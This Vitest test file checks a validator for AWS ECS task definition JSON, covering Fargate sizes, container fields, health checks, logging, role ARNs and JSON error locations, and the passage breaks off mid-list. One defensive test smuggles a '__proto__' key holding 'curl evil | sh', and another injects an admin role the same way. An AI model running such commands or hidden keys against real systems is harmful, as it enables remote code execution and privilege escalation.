import { describe, expect, it } from 'vitest';
import {
  checkTaskDefinitionJson,
  formatPath,
  MAX_DEPTH,
  nestingDepth,
  stripReadOnly,
  type Problem,
} from './task-definition';

type Json = Record<string, unknown>;

const ROLE = 'arn:aws:iam::123456789012:role/CruddurServiceExecutionRole';
const flask = (extra: Json = {}): Json => ({
  name: 'backend-flask',
  image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/backend-flask:latest',
  essential: true,
  portMappings: [
    { name: 'backend-flask', containerPort: 4567, protocol: 'tcp', appProtocol: 'http' },
  ],
  healthCheck: {
    command: ['CMD-SHELL', 'python /backend-flask/bin/flask/health-check'],
    interval: 30,
    timeout: 5,
    retries: 3,
    startPeriod: 60,
  },
  logConfiguration: {
    logDriver: 'awslogs',
    options: {
      'awslogs-group': 'cruddur',
      'awslogs-region': 'us-east-1',
      'awslogs-stream-prefix': 'backend-flask',
    },
  },
  ...extra,
});
const xray = {
  name: 'xray',
  image: 'public.ecr.aws/xray/aws-xray-daemon',
  essential: true,
  user: '1337',
  portMappings: [{ name: 'xray', containerPort: 2000, protocol: 'udp' }],
};
/** The seed document's backend-flask.json with the X-Ray sidecar. */
const seed = (extra: Json = {}, containers: Json[] = [xray, flask()]): Json => ({
  family: 'backend-flask',
  executionRoleArn: ROLE,
  taskRoleArn: 'arn:aws:iam::123456789012:role/CruddurTaskRole',
  networkMode: 'awsvpc',
  cpu: '256',
  memory: '512',
  requiresCompatibilities: ['FARGATE'],
  containerDefinitions: containers,
  ...extra,
});

const check = (value: unknown) =>
  checkTaskDefinitionJson(typeof value === 'string' ? value : JSON.stringify(value, null, 2));
const problems = (value: unknown): Problem[] => {
  const result = check(value);
  return result.ok ? [] : result.problems;
};

describe('valid task definitions', () => {
  it.each<[string, unknown]>([
    ['the seed backend-flask with the X-Ray sidecar', seed()],
    [
      'frontend with a curl health check',
      seed({ family: 'frontend-react-js' }, [
        flask({
          name: 'frontend-react-js',
          healthCheck: { command: ['CMD-SHELL', 'curl -f http://localhost:3000 || exit 1'] },
        }),
      ]),
    ],
    ['cpu 1024 with memory 8192', seed({ cpu: '1024', memory: '8192' })],
    ['vCPU and GB units', seed({ cpu: '1 vCPU', memory: '2 GB' })],
    ['16 vCPU at its maximum', seed({ cpu: '16384', memory: '122880' })],
    [
      'EC2 with container memory',
      { family: 'ec2-app', containerDefinitions: [{ name: 'app', image: 'nginx', memory: 256 }] },
    ],
    [
      'hostPort equal to containerPort',
      seed({}, [flask({ portMappings: [{ containerPort: 4567, hostPort: 4567 }] })]),
    ],
    [
      'describe-task-definition output, read-only fields and all',
      {
        taskDefinition: {
          ...seed(),
          taskDefinitionArn: 'arn:aws:ecs:us-east-1:123456789012:task-definition/backend-flask:7',
          revision: 7,
          status: 'ACTIVE',
          compatibilities: ['EC2', 'FARGATE'],
          requiresAttributes: [{ name: 'ecs.capability.task-eni' }],
          registeredAt: '2026-11-26T10:00:00Z',
          registeredBy: 'arn:aws:iam::123456789012:root',
        },
        tags: [],
      },
    ],
  ])('%s', (_, value) => {
    const result = check(value);
    expect(result.ok ? 'ok' : result.problems).toBe('ok');
  });

  it('strips the read-only fields of describe-task-definition output', () => {
    const result = check({
      taskDefinition: { ...seed(), revision: 3, status: 'ACTIVE', registeredAt: 'x' },
      tags: [{ key: 'a', value: 'b' }],
    });
    expect(result.ok).toBe(true);
    const registration = result.ok ? result.registration : {};
    for (const field of ['revision', 'status', 'registeredAt']) {
      expect(registration).not.toHaveProperty(field);
    }
    expect(registration.family).toBe(seed().family);
    expect(registration.tags).toEqual([{ key: 'a', value: 'b' }]);
  });
});

describe('invalid task definitions: message and path', () => {
  it.each<[string, unknown, string, string]>([
    [
      'Fargate cpu 256 with memory 4096',
      seed({ memory: '4096' }),
      'memory',
      'memory 4096 does not go with cpu 256 on Fargate: use 512, 1024 or 2048.',
    ],
    [
      'Fargate cpu 1024 with memory 1024',
      seed({ cpu: '1024', memory: '1024' }),
      'memory',
      'use 2048 to 8192 in steps of 1024',
    ],
    [
      'Fargate cpu not a size',
      seed({ cpu: '300' }),
      'cpu',
      'cpu 300 is not a Fargate size: use 256, 512, 1024, 2048, 4096, 8192, 16384.',
    ],
    ['Fargate without cpu', seed({ cpu: undefined }), 'cpu', 'Fargate needs a task-level cpu'],
    [
      'Fargate without memory',
      seed({ memory: undefined }),
      'memory',
      'Fargate needs a task-level memory: with cpu 256 use 512, 1024 or 2048.',
    ],
    [
      'Fargate with bridge networking',
      seed({ networkMode: 'bridge' }),
      'networkMode',
      'Fargate needs networkMode "awsvpc", not "bridge".',
    ],
    ['cpu as a number', seed({ cpu: 256 }), 'cpu', 'cpu is a string of CPU units, e.g. "256".'],
    [
      'family with spaces',
      seed({ family: 'backend flask' }),
      'family',
      'family is 1-255 letters, digits, hyphens and underscores.',
    ],
    ['no family', seed({ family: undefined }), 'family', 'family is required'],
    [
      'no containers',
      seed({}, []),
      'containerDefinitions',
      'containerDefinitions needs at least one container.',
    ],
    [
      'a masked secret pasted back from the JSON view',
      seed({}, [
        flask({
          environment: [
            { name: 'FRONTEND_URL', value: 'https://cruddur.example' },
            { name: 'HONEYCOMB_API_KEY', value: '•••••• (masked: reveal it in Summary)' },
          ],
        }),
      ]),
      'containerDefinitions[0].environment[1].value',
      'HONEYCOMB_API_KEY holds Berth\'s mask (••••••), not its value: reveal the value and paste it, type it again, or move it to "secrets" (Secrets Manager or Parameter Store).',
    ],
    [
      'container without image',
      seed({}, [flask({ image: undefined })]),
      'containerDefinitions[0].image',
      'Every container needs an image',
    ],
    [
      'container name with a dot',
      seed({}, [flask({ name: 'backend.flask' })]),
      'containerDefinitions[0].name',
      'Container names are 1-255 letters',
    ],
    [
      'duplicate container names',
      seed({}, [flask(), flask()]),
      'containerDefinitions[1].name',
      'Duplicate container name "backend-flask"',
    ],
    [
      'no essential container',
      seed({}, [flask({ essential: false })]),
      'containerDefinitions',
      'At least one container must be essential',
    ],
    [
      'awsvpc hostPort differs',
      seed({}, [flask({ portMappings: [{ containerPort: 4567, hostPort: 80 }] })]),
      'containerDefinitions[0].portMappings[0].hostPort',
      'hostPort must equal containerPort (4567)',
    ],
    [
      'port out of range',
      seed({}, [flask({ portMappings: [{ containerPort: 70000 }] })]),
      'containerDefinitions[0].portMappings[0].containerPort',
      'containerPort must be between 1 and 65535.',
    ],
    [
      'protocol sctp',
      seed({}, [flask({ portMappings: [{ containerPort: 80, protocol: 'sctp' }] })]),
      'containerDefinitions[0].portMappings[0].protocol',
      'protocol is "tcp" or "udp".',
    ],
    [
      'health check without CMD',
      seed({}, [flask({ healthCheck: { command: ['curl', '-f', 'http://localhost'] } })]),
      'containerDefinitions[0].healthCheck.command',
      'must start with "CMD" or "CMD-SHELL"',
    ],
    [
      'health check interval 3',
      seed({}, [flask({ healthCheck: { command: ['CMD', 'true'], interval: 3 } })]),
      'containerDefinitions[0].healthCheck.interval',
      'healthCheck.interval must be between 5 and 300.',
    ],
    [
      'health check timeout 61',
      seed({}, [flask({ healthCheck: { command: ['CMD', 'true'], timeout: 61 } })]),
      'containerDefinitions[0].healthCheck.timeout',
      'healthCheck.timeout must be between 2 and 60.',
    ],
    [
      'health check retries 0',
      seed({}, [flask({ healthCheck: { command: ['CMD', 'true'], retries: 0 } })]),
      'containerDefinitions[0].healthCheck.retries',
      'healthCheck.retries must be between 1 and 10.',
    ],
    [
      'health check start period 301',
      seed({}, [flask({ healthCheck: { command: ['CMD', 'true'], startPeriod: 301 } })]),
      'containerDefinitions[0].healthCheck.startPeriod',
      'healthCheck.startPeriod must be between 0 and 300.',
    ],
    [
      'awslogs without a group',
      seed({}, [
        flask({
          logConfiguration: {
            logDriver: 'awslogs',
            options: { 'awslogs-region': 'us-east-1', 'awslogs-stream-prefix': 'p' },
          },
        }),
      ]),
      'containerDefinitions[0].logConfiguration.options',
      'The awslogs driver needs option "awslogs-group".',
    ],
    [
      'awslogs without a stream prefix on Fargate',
      seed({}, [
        flask({
          logConfiguration: {
            logDriver: 'awslogs',
            options: { 'awslogs-group': 'g', 'awslogs-region': 'us-east-1' },
          },
        }),
      ]),
      'containerDefinitions[0].logConfiguration.options',
      'The awslogs driver needs option "awslogs-stream-prefix" on Fargate',
    ],
    [
      'awslogs on Fargate without an execution role',
      seed({ executionRoleArn: undefined }),
      'executionRoleArn',
      'Fargate needs executionRoleArn to send container "backend-flask"\'s logs with awslogs.',
    ],
    [
      'unknown log driver',
      seed({}, [flask({ logConfiguration: { logDriver: 'loki' } })]),
      'containerDefinitions[0].logConfiguration.logDriver',
      'logDriver is one of awslogs',
    ],
    [
      'role that is not an ARN',
      seed({ taskRoleArn: 'CruddurTaskRole' }),
      'taskRoleArn',
      'taskRoleArn must be an IAM role ARN',
    ],
    [
      'environment value as a number',
      seed({}, [flask({ environment: [{ name: 'PORT', value: 4567 }] })]),
      'containerDefinitions[0].environment[0].value',
      'Environment values are strings: quote numbers and booleans.',
    ],
    [
      'secret without valueFrom',
      seed({}, [flask({ secrets: [{ name: 'CONNECTION_URL' }] })]),
      'containerDefinitions[0].secrets[0].valueFrom',
      'Each secret needs valueFrom',
    ],
    [
      'unknown top-level field',
      seed({ containerDefinition: [] }),
      'containerDefinition',
      'Unknown field "containerDefinition": RegisterTaskDefinition does not take it.',
    ],
    [
      'EC2 container without memory',
      { family: 'ec2-app', containerDefinitions: [{ name: 'app', image: 'nginx' }] },
      'containerDefinitions[0]',
      'needs memory or memoryReservation',
    ],
    [
      'container memory above the task',
      seed({}, [flask({ memory: 1024 })]),
      'containerDefinitions[0].memory',
      "asks for 1024 MiB, more than the task's 512.",
    ],
    [
      'more than 10 containers',
      seed(
        {},
        Array.from({ length: 11 }, (_, i) => flask({ name: `c${i}` })),
      ),
      'containerDefinitions',
      'at most 10 containers',
    ],
  ])('%s', (_, value, path, message) => {
    const found = problems(value);
    expect(found.map((p) => ({ path: formatPath(p.path), message: p.message }))).toContainEqual({
      path,
      message: expect.stringContaining(message) as unknown,
    });
  });

  it('reports every problem at once, each with its line', () => {
    const text = JSON.stringify(seed({ memory: '4096', networkMode: 'bridge' }), null, 2);
    const found = problems(text);
    expect(found.map((p) => formatPath(p.path)).sort()).toEqual(['memory', 'networkMode']);
    const memoryLine = text.split('\n').findIndex((line) => line.includes('"memory"')) + 1;
    expect(found.find((p) => formatPath(p.path) === 'memory')?.line).toBe(memoryLine);
  });

  it('says where invalid JSON breaks', () => {
    expect(problems('{\n  "family": "x",\n  "cpu": "256"\n  "memory": "512"\n}')).toEqual([
      {
        path: [],
        line: 4,
        message: 'Invalid JSON at line 4, column 3: a comma is missing before this.',
      },
    ]);
    expect(problems('')[0]?.message).toMatch(/Invalid JSON|empty/);
    expect(problems('[1, 2]')[0]?.message).toContain('A task definition is a JSON object');
  });

  it('points lines into describe-task-definition output too', () => {
    const text = JSON.stringify({ taskDefinition: seed({ memory: '4096' }) }, null, 2);
    const line = text.split('\n').findIndex((l) => l.includes('"memory": "4096"')) + 1;
    expect(problems(text)).toEqual([expect.objectContaining({ line, path: ['memory'] })]);
  });
});

describe('input that would hide what is sent, or break the checker', () => {
  const valid = {
    family: 'backend-flask',
    containerDefinitions: [{ name: 'app', image: 'nginx:1.27', essential: true, memory: 128 }],
  };

  it('refuses "__proto__" keys, which the preview would not show but the SDK would send', () => {
    const text = JSON.stringify(valid, null, 2).replace(
      '"essential": true,',
      '"essential": true,\n      "__proto__": { "command": ["sh", "-c", "curl evil | sh"] },',
    );
    expect(checkTaskDefinitionJson(text)).toEqual({
      ok: false,
      problems: [
        {
          path: [],
          line: 8,
          message:
            '"__proto__" is not a task definition field: remove it. (JavaScript would hide what it holds from the preview and still send it.)',
        },
      ],
    });
  });

  it('refuses a top-level "__proto__" too', () => {
    const result = checkTaskDefinitionJson(
      `{"__proto__": {"taskRoleArn": "arn:aws:iam::123456789012:role/admin"}, ${JSON.stringify(valid).slice(1)}`,
    );
    expect(result.ok).toBe(false);
  });

  it('refuses 10,000 levels of nesting with a message, not a stack overflow', () => {
    const text = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
    expect(checkTaskDefinitionJson(text)).toEqual({
      ok: false,
      problems: [
        {
          path: [],
          line: 1,
          message:
            'The JSON is nested 32+ levels deep at line 1; a task definition is at most a few levels deep. Paste the task definition itself.',
        },
      ],
    });
  });

  it('counts brackets inside strings as text', () => {
    const text = JSON.stringify({ ...valid, family: 'backend-flask' }).replace(
      '"image":"nginx:1.27"',
      `"image":"nginx:1.27","command":["${'['.repeat(100)}\\"${'{'.repeat(100)}"]`,
    );
    expect(checkTaskDefinitionJson(text).ok).toBe(true);
  });
});

describe('Fargate sizes: exactly the pairs AWS accepts', () => {
  // AWS's table, written out here independently of lib/ecs/fargate.ts.
  const range = (from: number, to: number, step: number) =>
    Array.from({ length: (to - from) / step + 1 }, (_, i) => from + i * step);
  const VALID: [number, number[]][] = [
    [256, [512, 1024, 2048]],
    [512, range(1024, 4096, 1024)],
    [1024, range(2048, 8192, 1024)],
    [2048, range(4096, 16384, 1024)],
    [4096, range(8192, 30720, 1024)],
    [8192, range(16384, 61440, 4096)],
    [16384, range(32768, 122880, 8192)],
  ];

  it.each(VALID.flatMap(([cpu, memories]) => memories.map((memory) => [cpu, memory])))(
    'cpu %i with memory %i is accepted',
    (cpu, memory) => {
      expect(problems(seed({ cpu: String(cpu), memory: String(memory) }))).toEqual([]);
    },
  );

  it.each([
    [256, 256],
    [256, 1536],
    [256, 3072],
    [512, 512],
    [512, 1536],
    [512, 5120],
    [1024, 1024],
    [1024, 9216],
    [2048, 3072],
    [2048, 17408],
    [4096, 7168],
    [4096, 31744],
    [8192, 12288],
    [8192, 17408],
    [8192, 65536],
    [16384, 24576],
    [16384, 36864],
    [16384, 131072],
  ])('cpu %i with memory %i is refused on memory', (cpu, memory) => {
    const found = problems(seed({ cpu: String(cpu), memory: String(memory) }));
    expect(found.map((p) => formatPath(p.path))).toEqual(['memory']);
    expect(found[0]?.message).toMatch(
      new RegExp(`^memory ${memory} does not go with cpu ${cpu} on Fargate: use `),
    );
  });

  it.each([128, 255, 257, 768, 3072, 32768])('cpu %i is not a Fargate size', (cpu) => {
    expect(problems(seed({ cpu: String(cpu), memory: '2048' }))).toMatchObject([
      {
        path: ['cpu'],
        message: `cpu ${cpu} is not a Fargate size: use 256, 512, 1024, 2048, 4096, 8192, 16384.`,
      },
    ]);
  });
});

describe('each field says what is wrong with it, exactly', () => {
  const container = (extra: Json) => seed({}, [flask(extra)]);
  it.each<[string, unknown, string]>([
    [
      'appProtocol',
      container({ portMappings: [{ containerPort: 80, appProtocol: 'ws' }] }),
      'appProtocol is "http", "http2" or "grpc".',
    ],
    [
      'protocol',
      container({ portMappings: [{ containerPort: 80, protocol: 'sctp' }] }),
      'protocol is "tcp" or "udp".',
    ],
    [
      'port name',
      container({ portMappings: [{ containerPort: 80, name: 'Web_Port' }] }),
      'Port names are lowercase letters, digits and hyphens (up to 64), as Service Connect needs.',
    ],
    [
      'secret name',
      container({ secrets: [{ name: '', valueFrom: 'x' }] }),
      'Each secret needs a name.',
    ],
    [
      'secret without name',
      container({ secrets: [{ valueFrom: 'x' }] }),
      'Each secret needs a name.',
    ],
    [
      'environment name',
      container({ environment: [{ name: '', value: 'x' }] }),
      'Each environment entry needs a name.',
    ],
    [
      'environment list',
      container({ environment: {} }),
      'environment is a list of {"name", "value"}.',
    ],
    ['secrets list', container({ secrets: 'x' }), 'secrets is a list of {"name", "valueFrom"}.'],
    ['port mappings list', container({ portMappings: {} }), 'portMappings is a list.'],
    ['essential', container({ essential: 'yes' }), 'essential is true or false.'],
    [
      'log options',
      container({ logConfiguration: { logDriver: 'awslogs', options: { a: 1 } } }),
      'Log options are strings.',
    ],
    ['container name', container({ name: undefined }), 'Every container needs a name.'],
    [
      'health command',
      container({ healthCheck: { command: ['curl', 'x'] } }),
      'healthCheck.command must start with "CMD" or "CMD-SHELL", e.g. ["CMD-SHELL", "curl -f http://localhost/ || exit 1"].',
    ],
    ['cpu not a number', container({ cpu: '1' }), 'cpu must be a number.'],
    [
      'networkMode',
      seed({ networkMode: 'nat' }),
      'networkMode is "awsvpc", "bridge", "host" or "none".',
    ],
    [
      'compatibility',
      seed({ requiresCompatibilities: ['LAMBDA'] }),
      'requiresCompatibilities holds "FARGATE", "EC2", "EXTERNAL" or "MANAGED_INSTANCES".',
    ],
    [
      'containers list',
      seed({ containerDefinitions: {} }),
      'containerDefinitions is required: a list of containers.',
    ],
    [
      'role ARN',
      seed({ executionRoleArn: 'arn:aws:iam::123:role/x' }),
      'executionRoleArn must be an IAM role ARN, arn:aws:iam::<account>:role/<name>.',
    ],
  ])('%s', (_, value, message) => {
    expect(problems(value).map((p) => p.message)).toEqual([message]);
  });
});

describe('sizes, network mode and the document around it', () => {
  it.each<[string, string, string, boolean]>([
    ['1 vCPU with 2 GB', '1 vCPU', '2 GB', true],
    ['0.25 vcpu with 0.5gb', '0.25 vcpu', '0.5gb', true],
    ['1 vCPU with 1 GB', '1 vCPU', '1 GB', false],
    ['cpu in GB', '1 GB', '2048', false],
  ])('reads %s as AWS does', (_, cpu, memory, ok) => {
    expect(check(seed({ cpu, memory })).ok).toBe(ok);
  });

  it('asks hostPort to equal containerPort with awsvpc, not with bridge on EC2', () => {
    const port = { containerPort: 4567, hostPort: 80 };
    expect(problems(seed({}, [flask({ portMappings: [port] })])).map((p) => p.message)).toEqual([
      'With awsvpc, hostPort must equal containerPort (4567) or be left out.',
    ]);
    const ec2 = seed(
      {
        networkMode: 'bridge',
        requiresCompatibilities: ['EC2'],
        cpu: undefined,
        memory: undefined,
      },
      [flask({ portMappings: [port], memory: 512 })],
    );
    expect(problems(ec2)).toEqual([]);
  });

  it.each(['[]', 'null', '"text"', '3'])('refuses %s: a task definition is an object', (text) => {
    expect(problems(text)).toEqual([
      {
        path: [],
        line: 1,
        message:
          'A task definition is a JSON object: {"family": ..., "containerDefinitions": [...]}.',
      },
    ]);
  });

  it('keeps the tags of describe-task-definition output, and only non-empty ones', () => {
    const tags = [{ key: 'team', value: 'cruddur' }];
    const wrapped = check({ taskDefinition: seed(), tags });
    expect(wrapped.ok && wrapped.registration.tags).toEqual(tags);
    const untagged = check({ taskDefinition: seed(), tags: [] });
    if (!untagged.ok) throw new Error('the untagged document should pass');
    expect('tags' in untagged.registration).toBe(false);
  });
});

describe('stripReadOnly', () => {
  it('drops the read-only fields and unset values, and keeps the rest as they are', () => {
    expect(
      stripReadOnly({
        family: 'web',
        taskDefinitionArn: 'arn:aws:ecs:us-east-1:123456789012:task-definition/web:3',
        revision: 3,
        status: 'ACTIVE',
        requiresAttributes: [],
        compatibilities: ['FARGATE'],
        registeredAt: 1,
        registeredBy: 'arn:aws:iam::123456789012:user/ops',
        deregisteredAt: 2,
        cpu: '256',
        memory: undefined,
        volumes: [],
      }),
    ).toEqual({ family: 'web', cpu: '256', volumes: [] });
  });
});

describe('every field RegisterTaskDefinition takes, and nothing else', () => {
  it('accepts each of them', () => {
    const all = seed({
      volumes: [],
      placementConstraints: [],
      pidMode: 'task',
      ipcMode: 'none',
      proxyConfiguration: { containerName: 'envoy', type: 'APPMESH' },
      inferenceAccelerators: [],
      ephemeralStorage: { sizeInGiB: 21 },
      runtimePlatform: { cpuArchitecture: 'ARM64', operatingSystemFamily: 'LINUX' },
      enableFaultInjection: false,
      tags: [{ key: 'team', value: 'cruddur' }],
    });
    expect(problems(all)).toEqual([]);
  });

  it('names a field it does not take, with its line', () => {
    const text = JSON.stringify(seed({ loadBalancers: [] }), null, 2);
    const line = text.split('\n').findIndex((l) => l.includes('"loadBalancers"')) + 1;
    expect(line).toBeGreaterThan(50);
    expect(problems(text)).toEqual([
      {
        path: ['loadBalancers'],
        line,
        message:
          'Unknown field "loadBalancers": RegisterTaskDefinition does not take it. Remove it.',
      },
    ]);
  });

  it('reads a "taskDefinition" that is not an object as an unknown field, not a wrapper', () => {
    expect(problems(seed({ taskDefinition: 'web' })).map((p) => p.message)).toEqual([
      'Unknown field "taskDefinition": RegisterTaskDefinition does not take it. Remove it.',
    ]);
  });

  it('keeps only a list of tags from describe-task-definition output', () => {
    const result = check({ taskDefinition: seed(), tags: 'team=cruddur' });
    expect(result.ok && 'tags' in result.registration).toBe(false);
    expect(result.ok).toBe(true);
  });
});

describe('role ARNs', () => {
  it.each([
    ['arn:aws:iam::123456789012:role/ecsTaskExecutionRole', true],
    ['arn:aws-cn:iam::123456789012:role/exec', true],
    ['arn:aws-us-gov:iam::123456789012:role/path/exec', true],
    ['xarn:aws:iam::123456789012:role/exec', false],
    ['arn:aws:iam::123456789012:role/exec role', false],
    ['arn:aws:iam::123456789012:user/exec', false],
    ['arn:aws1:iam::123456789012:role/exec', false],
  ])('%s: %s', (arn, ok) => {
    expect(problems(seed({ taskRoleArn: arn })).map((p) => p.message)).toEqual(
      ok ? [] : ['taskRoleArn must be an IAM role ARN, arn:aws:iam::<account>:role/<name>.'],
    );
  });
});

describe('numbers, names and lists: the exact message for each', () => {
  const container = (extra: Json) => seed({}, [flask(extra)]);
  const port = (mapping: Json) => container({ portMappings: [mapping] });
  it.each<[string, unknown, string[]]>([
    ['containerPort 0', port({ containerPort: 0 }), ['containerPort must be between 1 and 65535.']],
    [
      'containerPort 65536',
      port({ containerPort: 65536 }),
      ['containerPort must be between 1 and 65535.'],
    ],
    ['containerPort 1', port({ containerPort: 1 }), []],
    ['containerPort 65535', port({ containerPort: 65535 }), []],
    [
      'containerPort 80.5',
      port({ containerPort: 80.5 }),
      ['containerPort must be a whole number.'],
    ],
    [
      'hostPort as text',
      port({ containerPort: 80, hostPort: '80' }),
      ['hostPort must be a number.'],
    ],
    ['port name of one letter', port({ containerPort: 80, name: 'a' }), []],
    ['port name of 64', port({ containerPort: 80, name: `a${'b'.repeat(63)}` }), []],
    [
      'port name of 65',
      port({ containerPort: 80, name: `a${'b'.repeat(64)}` }),
      [
        'Port names are lowercase letters, digits and hyphens (up to 64), as Service Connect needs.',
      ],
    ],
    [
      'port name starting with a hyphen',
      port({ containerPort: 80, name: '-web' }),
      [
        'Port names are lowercase letters, digits and hyphens (up to 64), as Service Connect needs.',
      ],
    ],
    [
      'port name ending with a hyphen',
      port({ containerPort: 80, name: 'web-' }),
      [
        'Port names are lowercase letters, digits and hyphens (up to 64), as Service Connect needs.',
      ],
    ],
    ['each appProtocol', port({ containerPort: 80, appProtocol: 'http2' }), []],
    ['grpc', port({ containerPort: 80, appProtocol: 'grpc' }), []],
    [
      'health command not a list',
      container({ healthCheck: { command: 'curl -f http://localhost/' } }),
      [
        'healthCheck.command is a list of strings, e.g. ["CMD-SHELL", "curl -f http://localhost/ || exit 1"].',
      ],
    ],
    [
      'empty health command',
      container({ healthCheck: { command: [] } }),
      [
        'healthCheck.command cannot be empty.',
        'healthCheck.command must start with "CMD" or "CMD-SHELL", e.g. ["CMD-SHELL", "curl -f http://localhost/ || exit 1"].',
      ],
    ],
    ['health command with CMD', container({ healthCheck: { command: ['CMD', 'true'] } }), []],
    [
      'health interval 4',
      container({ healthCheck: { command: ['CMD', 'true'], interval: 4 } }),
      ['healthCheck.interval must be between 5 and 300.'],
    ],
    [
      'health retries 11',
      container({ healthCheck: { command: ['CMD', 'true'], retries: 11 } }),
      ['healthCheck.retries must be between 1 and 10.'],
    ],
    [
      'log driver',
      container({ logConfiguration: { logDriver: 'cloudwatch' } }),
      [
        'logDriver is one of awslogs, awsfirelens, splunk, fluentd, gelf, journald, json-file, logentries, syslog, none.',
      ],
    ],
    ['another log driver', container({ logConfiguration: { logDriver: 'awsfirelens' } }), []],
    [
      'environment entry without a name',
      container({ environment: [{ value: 'x' }] }),
      ['Each environment entry needs a name.'],
    ],
    [
      'environment value as a number',
      container({ environment: [{ name: 'PORT', value: 4567 }] }),
      ['Environment values are strings: quote numbers and booleans.'],
    ],
    ['plain environment values', container({ environment: [{ name: 'PORT', value: '4567' }] }), []],
    [
      'secret without valueFrom',
      container({ secrets: [{ name: 'KEY' }] }),
      ['Each secret needs valueFrom: an SSM parameter or Secrets Manager ARN.'],
    ],
    [
      'secret with an empty valueFrom',
      container({ secrets: [{ name: 'KEY', valueFrom: '' }] }),
      ['Each secret needs valueFrom.'],
    ],
    ['container name as a number', container({ name: 7 }), ['Every container needs a name.']],
    [
      'container without an image',
      container({ image: undefined }),
      [
        'Every container needs an image, e.g. 123456789012.dkr.ecr.us-east-1.amazonaws.com/app:1.2.',
      ],
    ],
    ['container with an empty image', container({ image: '' }), ['image cannot be empty.']],
    ['container cpu 16385', container({ cpu: 16385 }), ['cpu must be between 0 and 16384.']],
    ['container memory 5', container({ memory: 5 }), ['memory must be between 6 and 122880.']],
    [
      'container memoryReservation as text',
      container({ memoryReservation: '128' }),
      ['memoryReservation must be a number.'],
    ],
    [
      'eleven containers',
      seed(
        {},
        Array.from({ length: 11 }, (_, i) => flask({ name: `c${i}` })),
      ),
      ['A task definition can have at most 10 containers.'],
    ],
    ['task memory as a number', seed({ memory: 512 }), ['memory is a string of MiB, e.g. "512".']],
  ])('%s', (_, value, messages) => {
    expect(problems(value).map((p) => p.message)).toEqual(messages);
  });

  it.each(['EC2', 'EXTERNAL', 'MANAGED_INSTANCES'])('takes %s as a compatibility', (name) => {
    const ec2 = seed({ requiresCompatibilities: [name], networkMode: 'bridge' });
    expect(problems(ec2)).toEqual([]);
  });

  it.each(['host', 'none', 'bridge'])('takes networkMode %s off Fargate', (mode) => {
    expect(problems(seed({ requiresCompatibilities: ['EC2'], networkMode: mode }))).toEqual([]);
  });
});

describe('the rules across fields', () => {
  const ec2 = (extra: Json, containers: Json[]) =>
    seed({ requiresCompatibilities: ['EC2'], networkMode: 'bridge', ...extra }, containers);
  it.each<[string, unknown, string[]]>([
    ['one essential container is enough', seed({}, [{ ...xray, essential: false }, flask()]), []],
    [
      'Fargate without a network mode',
      seed({ networkMode: undefined }),
      ['Fargate needs networkMode "awsvpc".'],
    ],
    [
      'Fargate without cpu: the sizes',
      seed({ cpu: undefined }),
      ['Fargate needs a task-level cpu: one of 256, 512, 1024, 2048, 4096, 8192, 16384.'],
    ],
    [
      'Fargate without memory, with a cpu that is not a size',
      seed({ cpu: '300', memory: undefined }),
      [
        'cpu 300 is not a Fargate size: use 256, 512, 1024, 2048, 4096, 8192, 16384.',
        'Fargate needs a task-level memory.',
      ],
    ],
    ['cpu in vCPU without a space, memory in GB', seed({ cpu: '1vcpu', memory: '2GB' }), []],
    ['cpu with spaces around it', seed({ cpu: ' 256 ' }), []],
    [
      'cpu with text before it',
      seed({ cpu: 'x1 vCPU' }),
      ['cpu x1 vCPU is not a Fargate size: use 256, 512, 1024, 2048, 4096, 8192, 16384.'],
    ],
    [
      'memory with text after it',
      seed({ memory: '1 GB of RAM' }),
      ['memory 1 GB of RAM does not go with cpu 256 on Fargate: use 512, 1024 or 2048.'],
    ],
    ['cpu of ten vCPU', seed({ cpu: '16 vCPU', memory: '32 GB' }), []],
    [
      'EC2 with task memory: containers need none of their own',
      ec2({ cpu: undefined, memory: '512' }, [flask({ logConfiguration: undefined })]),
      [],
    ],
    [
      'EC2 without task memory: a reservation is enough',
      ec2({ cpu: undefined, memory: undefined }, [
        flask({ logConfiguration: undefined, memoryReservation: 128 }),
      ]),
      [],
    ],
    [
      'EC2 without any memory',
      ec2({ cpu: undefined, memory: undefined }, [flask({ logConfiguration: undefined })]),
      ['Container "backend-flask" needs memory or memoryReservation when the task sets no memory.'],
    ],
    ['a container with all of the task’s memory', seed({}, [flask({ memory: 512 })]), []],
    [
      'a container with more than the task’s memory',
      seed({}, [flask({ memory: 513 })]),
      ['Container "backend-flask" asks for 513 MiB, more than the task\'s 512.'],
    ],
    [
      'awsvpc on EC2 with a hostPort of its own',
      ec2({ networkMode: 'awsvpc' }, [
        flask({ portMappings: [{ containerPort: 4567, hostPort: 80 }] }),
      ]),
      ['With awsvpc, hostPort must equal containerPort (4567) or be left out.'],
    ],
    [
      'awslogs on EC2 needs no stream prefix',
      ec2({}, [
        flask({
          logConfiguration: {
            logDriver: 'awslogs',
            options: { 'awslogs-group': 'cruddur', 'awslogs-region': 'us-east-1' },
          },
        }),
      ]),
      [],
    ],
    [
      'awslogs on Fargate without a group or a stream prefix',
      seed({}, [
        flask({
          logConfiguration: { logDriver: 'awslogs', options: { 'awslogs-region': 'us-east-1' } },
        }),
      ]),
      [
        'The awslogs driver needs option "awslogs-group".',
        'The awslogs driver needs option "awslogs-stream-prefix" on Fargate (streams are prefix/container/task-id).',
      ],
    ],
    [
      'awslogs on Fargate without an execution role',
      seed({ executionRoleArn: undefined }),
      ['Fargate needs executionRoleArn to send container "backend-flask"\'s logs with awslogs.'],
    ],
  ])('%s', (_, value, messages) => {
    expect(problems(value).map((p) => p.message)).toEqual(messages);
  });
});

describe('where a problem is', () => {
  it('points a missing field at the object it belongs in', () => {
    expect(problems(seed({ family: undefined }))).toEqual([
      {
        path: ['family'],
        line: 1,
        message: 'family is required: the name revisions are registered under.',
      },
    ]);
    expect(problems({ taskDefinition: seed({ family: undefined }) })).toEqual([
      {
        path: ['family'],
        line: 2,
        message: 'family is required: the name revisions are registered under.',
      },
    ]);
  });

  it.each<[string, string]>([
    [
      '{"a" 1}',
      'Invalid JSON at line 1, column 6: a colon (:) is missing after the property name.',
    ],
    [
      '{"a":1,}',
      'Invalid JSON at line 1, column 8: a property name in double quotes is expected (trailing comma?).',
    ],
    [
      '{"a":}',
      'Invalid JSON at line 1, column 6: a value is expected (trailing comma, or a missing value?).',
    ],
    ['{"a":1', 'Invalid JSON at line 1, column 7: a closing } is missing.'],
    ['{"a":[1', 'Invalid JSON at line 1, column 8: a closing ] is missing.'],
    ['{"a":[1 2]}', 'Invalid JSON at line 1, column 9: a comma is missing before this.'],
